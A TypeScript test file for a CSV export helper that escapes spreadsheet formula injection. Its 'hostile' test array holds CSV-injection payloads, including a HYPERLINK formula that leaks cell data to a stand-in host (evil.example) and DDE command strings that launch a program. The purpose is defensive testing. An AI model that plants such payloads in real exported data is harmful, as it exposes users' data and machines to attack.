import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv, toCsvCell } from './csv';

/** What a spreadsheet would run as a formula on opening the file (Excel, LibreOffice, Google Sheets). */
const runsAsFormula = (cell: string) => /^(?:[\t\r]|\s*[=+\-@])/.test(cell);

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '  @SUM(A1)',
  '=',
];

describe('shared CSV cells', () => {
  it('neutralises cells that start like a formula', () => {
    expect(toCsvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(toCsvCell('+1')).toBe("'+1");
    expect(toCsvCell('-2')).toBe("'-2");
    expect(toCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(toCsvCell('\tx')).toBe("'\tx");
    expect(toCsvCell('\rx')).toBe(`"'\rx"`);
    expect(toCsvCell(' =1+1')).toBe("' =1+1");
    expect(toCsvCell('a=b')).toBe('a=b');
    expect(toCsvCell('1-2')).toBe('1-2');
  });

  it('quotes commas, quotes, line breaks and edge spaces', () => {
    expect(toCsvCell('Dayton, OH')).toBe('"Dayton, OH"');
    expect(toCsvCell('say "hi"')).toBe('"say ""hi"""');
    expect(toCsvCell('two\nlines')).toBe('"two\nlines"');
    expect(toCsvCell(' padded')).toBe('" padded"');
    expect(toCsvCell('plain')).toBe('plain');
  });

  it('keeps plain numbers, negative ones too, when asked; anything more after the minus is still neutralised', () => {
    const keep = { keepNumbers: true };
    for (const number of ['-5', '-0.25', '1234.50', '0', '1e+21', '-1e-7', '.5', '-.5'])
      expect(neutraliseFormula(number, keep)).toBe(number);
    expect(toCsvCell(' -5 ', keep)).toBe('" -5 "');
    for (const text of ['-5+cmd|x!A0', '-5+1', '+5', '-', '--5', '-5e', '=5', '@5', '-0x10', '-Infinity', '- 5'])
      expect(neutraliseFormula(text, keep), text).toBe(`'${text}`);
    expect(neutraliseFormula('-5')).toBe("'-5"); // text columns (the order history): -5 is text there
  });

  it('writes rows a CSV parser reads back as the neutralised text, and nothing there runs as a formula', () => {
    const csv = toCsv([hostile, hostile.map((cell) => `x${cell}`)]);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [first, second] = Papa.parse<string[]>(csv, { skipEmptyLines: 'greedy' }).data;
    expect(first).toEqual(hostile.map((cell) => `'${cell}`));
    expect(second).toEqual(hostile.map((cell) => `x${cell}`));
    for (const cell of first) expect(runsAsFormula(cell), JSON.stringify(cell)).toBe(false);
  });
});
